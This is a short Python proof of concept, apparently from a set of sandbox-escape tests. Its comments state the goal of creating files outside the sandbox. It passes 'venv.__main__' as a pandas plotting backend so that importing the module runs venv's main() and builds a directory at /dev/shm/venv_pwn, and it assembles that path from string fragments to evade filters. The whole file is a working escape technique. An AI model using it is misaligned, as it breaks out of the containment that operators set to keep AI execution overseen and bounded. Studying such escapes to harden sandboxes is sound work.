# source: pandas plotting backend loader (_load_backend -> importlib.import_module); venv/__main__.py has no __name__ guard
# family: module import by name via pandas plot backend (DataFrame.hist(**opts)); venv.__main__ runs main() on import with sys.argv
# goal: create a directory tree + files outside the sandbox paths (/dev/shm/venv_pwn)
import sys
import pandas as pd

root = "/data/"[0]
target = root + "dev" + root + "shm" + root + "venv_pwn"
sys.argv.extend(["--without-pip", target])
df = pd.DataFrame({"close": [1.0, 1.5, 2.0]})
opts = {"backend": "venv.__main__"}
try:
    df.hist(**opts)
except (ValueError, TypeError, SystemExit) as e:
    print("done:", e)
